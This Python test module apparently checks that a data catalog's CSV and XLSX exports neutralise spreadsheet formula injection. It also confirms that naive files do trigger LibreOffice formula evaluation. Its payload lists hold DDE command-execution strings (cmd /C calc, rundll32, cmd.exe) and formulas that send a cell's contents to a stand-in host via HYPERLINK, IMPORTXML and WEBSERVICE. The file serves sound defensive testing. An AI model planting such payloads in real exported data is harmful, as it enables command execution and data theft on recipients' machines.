"""Formulas in names and comments, taken out as CSV and as a workbook and opened by a spreadsheet: none may compute."""

import csv
import io
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl

from benchmarks.proof import Proof
from tests.support import city as cities
from tests.support.browsing import application, enter

_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹢", "﹣", "﹦", "⁼", "₊")
_LEADS = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060", "\u202e",
          "'", "''", '"', '""', "“", "\x0b", "\x1f", "\u2028", ";", ",", "|", " '", '" ')  # fmt: skip
_BODIES = ("1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("http://elsewhere.example/?x="&A1;"open")')
_MORE = (
    'HYPERLINK("http://elsewhere.example","x")', 'IMPORTXML("http://elsewhere.example","//a")',
    'IMPORTDATA("http://elsewhere.example")', 'WEBSERVICE("http://elsewhere.example")',
    'DDE("cmd";"/C calc";"a")', 'IMAGE("http://elsewhere.example")', "MSEXCEL|'\\..\\..\\cmd.exe'!''", "'a'.A1",
    "{1;2}", "A1", "rundll32|'URL.dll,OpenURL calc'!A", "1", "-1", "=1", "(1)", "%1", "1e9", "0x10",
)  # fmt: skip
_PLAIN = (
    "-1", "+1", "-", "--", "- a", "1-2", "2026-01-05", "05/01/2026", "1/2", "00123", "123456789012345678901234567890",
    "4111111111111111", "1e5", "1.234,56", "1,234.56", "1 234", "TRUE", "FALSE", "#REF!", "#N/A", "10%", "$5", "€ 5",
    "12:30", "3:30 PM", "1E-7", "0x1F", "_x0041_", "a=1", "a;=1+1;b", 'a";=1+1;"', "a,=1+1", "a\t=1", "a\n=1+1",
    "a\r\n=1", "a|=1", "{=1+1}", "{{=1}}", "'", "''", '"', "é=1", "=\n1", "MARCH1", "SEPT2", "1D10", "  x  ",
    "x" * 3000,
)  # fmt: skip
_CONTROLS = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f]")
#: How LibreOffice may read CSV: what is quoted as text, and looking for numbers, dates and formulas in everything.
_AS_TEXT = "44,34,76,1,,0,true,false,false,false,false,0,false"
_EAGER = "44,34,76,1,,0,false,true,false,false,false,0,true"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def payloads() -> list[str]:
    """What anybody could call a column so that a spreadsheet computes it, and what only looks so."""
    made = [f"{lead}{sign}{body}" for lead, sign, body in product(_LEADS, _SIGNS, _BODIES)]
    made += [f"{lead}{sign}{body}" for lead, sign, body in product(("", " ", "\t", "'"), "=+-@", _MORE)]
    return list(dict.fromkeys((*made, *_PLAIN)))


def proofs() -> Iterator[Proof]:
    """Name columns so, take the list out, and open it."""
    bad = payloads()
    with tempfile.TemporaryDirectory(prefix="formulas-") as folder:
        place = Path(folder)
        plain, workbook = _taken(place, bad)
        yield _kept_by_readers(bad, plain, workbook)
        if shutil.which("soffice") is None:
            yield Proof("LibreOffice opens them", "could not look: no soffice here", "0 formulas", kept=False)
            return
        yield from _opened(place, bad, plain, workbook)


def _taken(place: Path, bad: Sequence[str]) -> tuple[bytes, bytes]:
    """The columns of a dataset, each called and described by a payload, as CSV and as a workbook."""
    city = cities.build(place / "city")
    catalog = city.catalog
    source = cities.add_source(catalog, "DSS", "Sheets", "sheets")
    columns = [cities.column(name, at, kind="text", comment=name[::-1] + name) for at, name in enumerate(bad)]
    _, (dataset,) = cities.scan(catalog, source, [(cities.listed("sheet", bad[0]), cities.result(columns))])
    client = enter(application(catalog), "cpo")
    answers = [client.get(f"/datasets/{dataset}", query_string={"format": kind}) for kind in ("csv", "xlsx")]
    catalog.close()
    return answers[0].data, answers[1].data


def _expected(bad: Sequence[str]) -> list[tuple[str, str]]:
    return [(name, name[::-1] + name) for name in bad]


def _kept_by_readers(bad: Sequence[str], plain: bytes, workbook: bytes) -> Proof:
    """What a reader of the format itself gets, a leading apostrophe of the CSV taken off."""
    rows = csv.DictReader(io.StringIO(plain.decode("utf-8-sig"), newline=""))
    from_csv = [row[key].removeprefix("'") for row in rows for key in ("column", "description")]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["List"]
    # This reader leaves the format's own escapes as they are.
    from_xlsx = [(text or "").replace("_x005F_", "_") for row in list(sheet.values)[1:] for text in row[1:3]]
    exact = [text for pair in _expected(bad) for text in pair]
    shown = [_CONTROLS.sub(lambda one: chr(0x2400 + ord(one[0])), text) for text in exact]
    pairs = zip([*from_csv, *from_xlsx], [*exact, *shown], strict=True)
    changed = sum(seen != wanted for seen, wanted in pairs)
    promise = f"{len(bad):,} payloads as names and comments of columns: changed in CSV or XLSX"
    return Proof(promise, f"{changed} of {4 * len(bad):,} cells", "0", not changed)


def _opened(place: Path, bad: Sequence[str], plain: bytes, workbook: bytes) -> Iterator[Proof]:
    (place / "list.csv").write_bytes(plain)
    (place / "list.xlsx").write_bytes(workbook)
    yield _bites(place, bad)
    for title, name, filters in (
        ("CSV, what is quoted read as text", "list.csv", _AS_TEXT),
        ("CSV, formulas looked for in everything", "list.csv", _EAGER),
        ("XLSX", "list.xlsx", ""),
    ):
        tree = _read(place, name, filters)
        count, cells = _formulas(tree), 2 * len(bad)
        yield Proof(f"LibreOffice opens the {title}: formulas", f"{count} of {cells:,} cells", "0", not count)
        if filters != _EAGER:
            changed = _changed(tree, bad)
            promise = f"LibreOffice opens the {title}: values changed, control characters aside"
            yield Proof(promise, f"{changed} of {cells:,} cells", "0", not changed)


def _bites(place: Path, bad: Sequence[str]) -> Proof:
    """The same payloads, written as anybody would."""
    with (place / "naive.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([[name] for name in bad])
    book = openpyxl.Workbook()
    for name in bad:
        book.active.append([_CONTROLS.sub("", name)])
    book.save(place / "naive.xlsx")
    computed = _formulas(_read(place, "naive.csv", _EAGER)), _formulas(_read(place, "naive.xlsx"))
    promise = "formulas LibreOffice sees where nothing is done (so the proof bites)"
    return Proof(promise, f"{computed[0]} in CSV, {computed[1]} in XLSX", ">= 20 in each", min(computed) >= 20)


def _read(place: Path, name: str, filters: str = "") -> ET.Element:
    """A file as LibreOffice reads it, in the form in which one sees which cells are formulas."""
    target = place / "seen"
    shutil.rmtree(target, ignore_errors=True)
    command = ["soffice", f"-env:UserInstallation=file://{place}/profile", "--headless", "--convert-to", "fods"]
    command += [f"--infilter=CSV:{filters}"] if filters else []
    command += ["--outdir", str(target), str(place / name)]
    subprocess.run(command, check=True, capture_output=True, timeout=300, cwd=place)
    return ET.parse(next(target.iterdir())).getroot()


def _formulas(tree: ET.Element) -> int:
    return sum(f"{_TABLE}formula" in cell.attrib for cell in tree.iter(f"{_TABLE}table-cell"))


def _changed(tree: ET.Element, bad: Sequence[str]) -> int:
    table = next(tree.iter(f"{_TABLE}table"))
    rows = [_cells(row) for row in table.iter(f"{_TABLE}table-row")][1 : len(bad) + 1]
    seen = [_comparable(text) for row in rows for text in row[1:3]]
    wanted = [_comparable(text) for pair in _expected(bad) for text in pair]
    return sum(a not in {b, f"'{b}"} for a, b in zip(seen, wanted, strict=True))


def _cells(row: ET.Element) -> list[str]:
    texts: list[str] = []
    for cell in row.iter(f"{_TABLE}table-cell"):
        text = "\n".join(_paragraph(part) for part in cell.findall(f"{_TEXT}p"))
        texts += [text] * min(int(cell.get(f"{_TABLE}number-columns-repeated", 1)), 20)
    return texts


def _paragraph(part: ET.Element) -> str:
    text = part.text or ""
    for child in part:
        blanks = " " * int(child.get(f"{_TEXT}c", 1))
        text += {f"{_TEXT}s": blanks, f"{_TEXT}tab": "\t", f"{_TEXT}line-break": "\n"}.get(child.tag) or _paragraph(
            child
        )
        text += child.tail or ""
    return text


def _comparable(text: str) -> str:
    """Without what this program's own format cannot hold: control characters, and which line ends there were."""
    return re.sub("[\0-\x08\x0b\x0c\x0e-\x1f\u2400-\u241f]", "", re.sub("[\r\n]+", "\n", text))
